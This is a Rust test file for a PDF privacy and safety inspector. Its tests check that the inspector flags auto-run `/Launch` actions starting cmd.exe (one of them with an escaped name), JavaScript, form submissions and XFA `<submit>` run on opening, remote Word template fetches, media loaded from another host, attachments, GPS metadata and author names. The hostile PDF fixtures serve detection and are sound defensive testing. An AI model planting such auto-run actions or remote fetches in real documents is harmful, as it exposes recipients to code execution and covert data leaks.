use super::*;

/// The report on `pdf`, which these PDFs always have.
fn inspect(pdf: &[u8]) -> Report {
    super::inspect(pdf).unwrap()
}
use std::io::Write;

fn deflate(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

/// A PDF whose catalog and actions sit in a compressed object stream,
/// as Word and Acrobat write them, a name spelt with `#` escapes.
fn with_object_stream(objects: &[u8]) -> Vec<u8> {
    let body = deflate(objects);
    let mut pdf = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".to_vec();
    pdf.extend_from_slice(
        format!(
            "5 0 obj\n<< /Type /ObjStm /N 2 /First 8 /Filter /FlateDecode /Length {} >>\nstream\n",
            body.len()
        )
        .as_bytes(),
    );
    pdf.extend_from_slice(&body);
    pdf.extend_from_slice(b"\nendstream\nendobj\n");
    pdf.extend_from_slice(b"1 0 obj\n<< /Title (Consent \\(draft\\) /JS in a title) /Author (\\376\\377\\000A\\000m\\000i\\000n\\000a) >>\nendobj\n");
    pdf.extend_from_slice(b"trailer\n<< /Info 1 0 R >>\n%%EOF\n");
    pdf
}

#[test]
fn actions_in_object_streams_and_the_author_are_found() {
    let pdf = with_object_stream(
        b"2 0 3 40 << /Type /Catalog /OpenAction << /S /L#61unch /F (cmd.exe) >> >> << /S /JavaScript /JS (app.alert\\(1\\)) >> << /S /SubmitForm /F (https://x.example/) >> /EmbeddedFiles",
    );
    let r = inspect(&pdf);
    assert_eq!(r.macros, ["a `/Launch` action (starts a program)"]);
    assert_eq!(
        r.active,
        [
            "JavaScript",
            "a form that sends its fields to an address",
            "attached files"
        ]
    );
    assert_eq!(r.people, ["Amina"]);
    assert_eq!(r.unchecked, None);
}

/// Word and Acrobat write the author twice: `/Author` and the XMP
/// metadata's `dc:creator`, which can differ (edited in one place).
#[test]
fn the_xmp_metadata_names_its_creators_too() {
    let xmp = "<x:xmpmeta><rdf:RDF><rdf:Description><dc:creator><rdf:Seq><rdf:li>Amina Yusuf</rdf:li><rdf:li xml:lang=\"x-default\">J &amp; K</rdf:li></rdf:Seq></dc:creator></rdf:Description></rdf:RDF></x:xmpmeta>";
    let pdf = format!(
        "%PDF-1.7\n1 0 obj\n<< /Author (jdoe) >>\nendobj\n2 0 obj\n<< /Type /Metadata /Subtype /XML /Length {} >>\nstream\n{xmp}\nendstream\nendobj\n%%EOF\n",
        xmp.len()
    );
    assert_eq!(
        inspect(pdf.as_bytes()).people,
        ["jdoe", "Amina Yusuf", "J & K"]
    );
}

/// `/JS` inside a string (a title) or a page's drawing is not a name.
#[test]
fn names_in_strings_and_page_streams_are_not_read() {
    let mut pdf = b"%PDF-1.4\n1 0 obj\n<< /Title (About /JavaScript and /Launch) /Author <FEFF004A006F> >>\nendobj\n".to_vec();
    pdf.extend_from_slice(
        b"2 0 obj\n<< /Length 20 >>\nstream\n/Launch /JS BT ET\nendstream\nendobj\n%%EOF\n",
    );
    let r = inspect(&pdf);
    assert!(r.macros.is_empty() && r.active.is_empty(), "{r:?}");
    assert_eq!(r.people, ["Jo"]);
}

#[test]
fn an_object_stream_past_the_cap_is_said() {
    let pdf = with_object_stream(&vec![b' '; INFLATE_CAP as usize + 10]);
    let r = inspect(&pdf);
    assert!(r.unchecked.unwrap().contains("inflate to over"));
}

#[test]
fn an_encrypted_pdf_is_said_to_be() {
    let pdf = b"%PDF-1.6\ntrailer\n<< /Encrypt 9 0 R >>\n%%EOF\n";
    assert_eq!(inspect(pdf).unchecked.as_deref(), Some("it is encrypted"));
}

/// A PDF of `objects` (each `N 0 obj … endobj` in turn, from 1).
fn pdf_of(objects: &[Vec<u8>]) -> Vec<u8> {
    let mut pdf = b"%PDF-1.7\n".to_vec();
    for (i, o) in objects.iter().enumerate() {
        pdf.extend_from_slice(format!("{} 0 obj\n", i + 1).as_bytes());
        pdf.extend_from_slice(o);
        pdf.extend_from_slice(b"\nendobj\n");
    }
    pdf.extend_from_slice(b"trailer\n<< /Root 1 0 R >>\n%%EOF\n");
    pdf
}

/// A stream object of `dict` entries and `body`.
fn stream(dict: &str, body: &[u8]) -> Vec<u8> {
    let head = format!("<< {dict} /Length {} >>\nstream\n", body.len());
    [head.as_bytes(), body, b"\nendstream"].concat()
}

fn image_pdf(filter: &str, body: &[u8]) -> Vec<u8> {
    let dict = format!("/Type /XObject /Subtype /Image /Width 8 /Height 8 /Filter {filter}");
    pdf_of(&[stream(&dict, body)])
}

#[test]
fn a_photo_behind_a_filter_chain_is_found() {
    let photo = crate::output::office::tests::located_jpeg();
    let hexed: String = photo.iter().map(|b| format!("{b:02x}")).collect::<String>() + ">";
    for (filter, body) in [
        ("[/FlateDecode /DCTDecode]", deflate(&photo)),
        ("[/Fl /DCT]", deflate(&photo)),
        ("[ /AHx /DCT ]", hexed.clone().into_bytes()),
        ("[/ASCIIHexDecode /FlateDecode /DCTDecode]", {
            let z = deflate(&photo);
            z.iter()
                .map(|b| format!("{b:02X}"))
                .collect::<String>()
                .into_bytes()
        }),
        ("[/RunLengthDecode /DCTDecode]", {
            let mut rl = Vec::new();
            for c in photo.chunks(100) {
                rl.push(c.len() as u8 - 1);
                rl.extend_from_slice(c);
            }
            rl.push(128);
            rl
        }),
    ] {
        let r = inspect(&image_pdf(filter, &body));
        assert_eq!(r.located, ["1 JPEG image"], "{filter}");
    }
    // A photo without GPS behind the same chain passes; an image filter
    // not read here says so.
    let plain = [&[0xFF, 0xD8, 0xFF, 0xDB, 0, 2][..], &[0xFF, 0xD9]].concat();
    let r = inspect(&image_pdf("[/Fl /DCT]", &deflate(&plain)));
    assert!(r.located.is_empty() && r.unchecked.is_none());
    let r = inspect(&image_pdf("[/LZWDecode /DCTDecode]", b"\x80\x0b"));
    assert!(r.unchecked.unwrap().contains("`/LZWDecode`"));
}

/// A PDF with `file` attached as `name`, compressed, its stream's type
/// left out as some writers leave it.
fn attached(name: &str, file: &[u8]) -> Vec<u8> {
    let catalog = format!(
        "<< /Type /Catalog /Names << /EmbeddedFiles << /Names [({name}) << /Type /Filespec /F ({name}) /EF << /F 2 0 R >> >>] >> >> >>"
    );
    pdf_of(&[
        catalog.into_bytes(),
        stream("/Filter /FlateDecode", &deflate(file)),
    ])
}

#[test]
fn an_attached_file_is_checked_like_a_document_inside_a_document() {
    use crate::output::office::tests::{located_jpeg, package, rels};
    let r = inspect(&attached("photo.jpg", &located_jpeg()));
    assert_eq!(r.located, ["`photo.jpg`, a file attached to it"]);
    assert_eq!(r.active, ["attached files"]);
    let settings = rels(&[("attachedTemplate", "https://203.0.113.9/t.dotm", true)]);
    let docx = package(&[
        ("word/_rels/settings.xml.rels", &settings),
        ("word/document.xml", "<w:document xmlns:w=\"w\"/>"),
    ]);
    let r = inspect(&attached("report.docx", &docx));
    let fetched = &r.fetched[0];
    assert_eq!(fetched.0, "attachedTemplate in `report.docx`");
    assert_eq!(fetched.1, "https://203.0.113.9/t.dotm");
    // A PDF attached to a PDF: its actions; past 3 deep, refused.
    let mut pdf =
        b"%PDF-1.4\n1 0 obj << /OpenAction << /S /Launch /F (cmd.exe) >> >> endobj".to_vec();
    let r = inspect(&attached("inner.pdf", &pdf));
    assert_eq!(
        r.macros,
        ["a `/Launch` action (starts a program) in `inner.pdf`"]
    );
    for _ in 0..3 {
        pdf = attached("inner.pdf", &pdf);
    }
    let e = super::inspect(&attached("inner.pdf", &pdf)).unwrap_err();
    assert!(e.contains("nested more than 3 deep"), "{e}");
    // An attachment that cannot be decoded is named as not checked.
    let catalog =
        b"<< /EmbeddedFiles << /Names [(a.jpg) << /UF (a.jpg) /EF << /F 2 0 R >> >>] >> >>";
    let r = inspect(&pdf_of(&[catalog.to_vec(), stream("/Filter /LZW", b"xx")]));
    assert!(
        r.unchecked
            .unwrap()
            .starts_with("`a.jpg`, a file attached to it: ")
    );
}

#[test]
fn compressed_metadata_naming_a_place_is_found() {
    let xmp = b"<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:Description exif:GPSLatitude='14,30.2N'/><dc:creator><rdf:Seq><rdf:li>Amina</rdf:li></rdf:Seq></dc:creator></x:xmpmeta>";
    let pdf = pdf_of(&[stream(
        "/Type /Metadata /Subtype /XML /Filter /FlateDecode",
        &deflate(xmp),
    )]);
    let r = inspect(&pdf);
    assert_eq!(r.located, ["its XMP metadata, which names a place"]);
    assert_eq!(r.people, ["Amina"]);
}

#[test]
fn media_played_from_another_host_on_opening_is_found() {
    let open = b"<< /Type /Catalog /OpenAction 2 0 R >>".to_vec();
    let rendition = b"<< /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D << /Type /Filespec /FS /URL /F (http://203.0.113.9/v.mp4) >> >> >> >>";
    let r = inspect(&pdf_of(&[open.clone(), rendition.to_vec()]));
    let what = "the media of a `/Rendition` action run on opening (`/OpenAction`)";
    assert_eq!(
        r.fetched,
        [(what.to_string(), "http://203.0.113.9/v.mp4".to_string())]
    );
    let sound = b"<< /S /Sound /Sound 3 0 R >>".to_vec();
    let stream = stream(
        "/Type /Sound /R 8000 /F << /FS /URL /F (http://203.0.113.9/s.wav) >>",
        b"",
    );
    let r = inspect(&pdf_of(&[open.clone(), sound, stream]));
    assert_eq!(r.fetched[0].1, "http://203.0.113.9/s.wav");
    // A movie kept in the file, and a page's own links, are not fetched.
    let movie = b"<< /S /Movie /Annotation << /Movie << /F (clip.mov) >> /P << /Annots [<< /A << /S /URI /URI (https://example.org/) >> >>] >> >> >>";
    let r = inspect(&pdf_of(&[open, movie.to_vec()]));
    assert!(r.fetched.is_empty(), "{:?}", r.fetched);
}

/// A PDF whose form is the XFA packet `template` (its event's body).
fn xfa(event: &str, body: &str) -> Vec<u8> {
    let catalog = b"<< /Type /Catalog /AcroForm << /Fields [] /XFA [(template) 2 0 R] >> >>";
    let packet = format!(
        "<template xmlns='http://www.xfa.org/schema/xfa-template/3.3/'><subform><event activity=\"{event}\">{body}</event></subform></template>"
    );
    pdf_of(&[
        catalog.to_vec(),
        stream("/Filter /FlateDecode", &deflate(packet.as_bytes())),
    ])
}

#[test]
fn an_xfa_form_is_named_and_its_submission_on_opening_refused() {
    const XFA: &str = "an XFA form (`/XFA`)";
    let r = inspect(&xfa(
        "initialize",
        "<submit target='http://203.0.113.9/x' format='xml'/>",
    ));
    let what = "an XFA form's `<submit>` run on `initialize`";
    assert_eq!(
        r.fetched,
        [(what.to_string(), "http://203.0.113.9/x".to_string())]
    );
    assert_eq!(r.active, [XFA]);
    let r = inspect(&xfa(
        "click",
        "<submit target=\"https://ngo.example/form\"/>",
    ));
    assert!(r.fetched.is_empty());
    assert_eq!(
        r.active,
        ["a form that sends its fields to an address", XFA]
    );
    let script = "<script contentType='application/x-javascript'>app.launchURL('http://203.0.113.9/');</script>";
    let r = inspect(&xfa("initialize", script));
    assert_eq!(r.active, ["JavaScript", XFA]);
    // A packet that cannot be decoded is said to be unchecked.
    let catalog = b"<< /AcroForm << /XFA 2 0 R >> >>".to_vec();
    let r = inspect(&pdf_of(&[catalog, stream("/Filter /LZWDecode", b"\x80")]));
    assert_eq!(r.active, [XFA]);
    assert!(r.unchecked.unwrap().contains("`/LZWDecode`"));
}
